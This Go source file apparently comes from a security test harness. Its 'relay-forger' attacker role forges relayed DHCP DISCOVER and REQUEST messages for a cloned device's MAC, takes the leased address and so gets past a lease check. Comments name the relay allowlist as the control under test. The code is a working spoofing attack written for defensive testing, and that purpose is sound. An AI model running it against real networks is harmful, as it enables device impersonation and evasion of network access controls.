package phone

import (
	"context"
	"fmt"
	"net"
	"net/url"
	"time"

	"github.com/insomniacslk/dhcp/dhcpv4"
)

// RelayForger is a host on the LAN that is not a relay agent. It has
// cloned an open device's MAC and User-Agent and set a static address
// (like static-clone), then forges relayed DHCP for the device's MAC:
// DISCOVER and REQUEST from port 67 with giaddr set to its own address,
// so the server answers it as if it were a relay. A lease obtained that
// way binds the device's MAC to an address it then takes, and its
// requests from there pass the lease check. The relay allowlist (relays
// in [[dhcp.subnet]]) stops it; without a lease it asks from its static
// address and the lease check refuses it.
const RelayForger = "relay-forger"

// forgeRelay sets the static address, forges a relayed DORA for tmac and,
// if the server answers, moves to the leased address.
func (a *Attacker) forgeRelay(ctx context.Context, p *Profile, tmac net.HardwareAddr) (*Lease, error) {
	static, err := StaticAddr(a.Iface, a.Static)
	if err != nil {
		return nil, err
	}
	u, err := url.Parse(a.HTTP)
	if err != nil || net.ParseIP(u.Hostname()).To4() == nil {
		return nil, fmt.Errorf("%s: the server's address is not in %q", a.Role, a.HTTP)
	}
	server := &net.UDPAddr{IP: net.ParseIP(u.Hostname()).To4(), Port: dhcpv4.ServerPort}
	conn, err := net.ListenUDP("udp4", &net.UDPAddr{IP: static.IP, Port: dhcpv4.ServerPort})
	if err != nil {
		return nil, fmt.Errorf("%s: port 67: %w", a.Role, err)
	}
	defer conn.Close()
	l, err := a.relayedDORA(ctx, conn, server, static.IP, p, tmac)
	if err != nil {
		a.log().Info("forged relay got no lease", "mac", tmac.String(), "err", err)
		return static, nil // ask from the static address anyway
	}
	a.log().Info("forged relay leased", "mac", tmac.String(), "ip", l.IP.String())
	if err := Unconfigure(a.Iface); err != nil {
		return nil, err
	}
	return l, Configure(a.Iface, l)
}

// relayedDORA runs DISCOVER/OFFER/REQUEST/ACK as a relay agent would
// forward them for tmac, with giaddr self.
func (a *Attacker) relayedDORA(ctx context.Context, c *net.UDPConn, server *net.UDPAddr, self net.IP, p *Profile, tmac net.HardwareAddr) (*Lease, error) {
	relayed := func(d *dhcpv4.DHCPv4) { d.GatewayIPAddr, d.HopCount = self, 1 }
	class := dhcpv4.WithGeneric(dhcpv4.OptionClassIdentifier, classOf(p))
	disc, err := dhcpv4.NewDiscovery(tmac, relayed, class)
	if err != nil {
		return nil, err
	}
	offer, err := a.relayExchange(ctx, c, server, disc, dhcpv4.MessageTypeOffer)
	if err != nil {
		return nil, err
	}
	req, err := dhcpv4.NewRequestFromOffer(offer, relayed, class)
	if err != nil {
		return nil, err
	}
	ack, err := a.relayExchange(ctx, c, server, req, dhcpv4.MessageTypeAck)
	if err != nil {
		return nil, err
	}
	out := &Lease{IP: ack.YourIPAddr, Mask: ack.SubnetMask(), Server: ack.ServerIdentifier(), Options: map[uint8][]byte{}}
	for code, v := range ack.Options {
		out.Options[code] = v
	}
	if out.Mask == nil {
		return nil, fmt.Errorf("ACK for %s carries no subnet mask", out.IP)
	}
	return out, nil
}

// relayExchange sends m to the server and waits, bounded by the
// attacker's timeout, for the reply of type want with m's xid.
func (a *Attacker) relayExchange(ctx context.Context, c *net.UDPConn, server *net.UDPAddr, m *dhcpv4.DHCPv4, want dhcpv4.MessageType) (*dhcpv4.DHCPv4, error) {
	if _, err := c.WriteTo(m.ToBytes(), server); err != nil {
		return nil, err
	}
	deadline := time.Now().Add(a.timeout())
	if d, ok := ctx.Deadline(); ok && d.Before(deadline) {
		deadline = d
	}
	c.SetReadDeadline(deadline)
	buf := make([]byte, 1500)
	for {
		n, _, err := c.ReadFrom(buf)
		if err != nil {
			return nil, fmt.Errorf("no %s for the forged relayed %s: %w", want, m.MessageType(), err)
		}
		r, err := dhcpv4.FromBytes(buf[:n])
		if err != nil || r.TransactionID != m.TransactionID || r.OpCode != dhcpv4.OpcodeBootReply {
			continue
		}
		if r.MessageType() != want {
			return nil, fmt.Errorf("the server answered the forged relayed %s with %s", m.MessageType(), r.MessageType())
		}
		return r, nil
	}
}
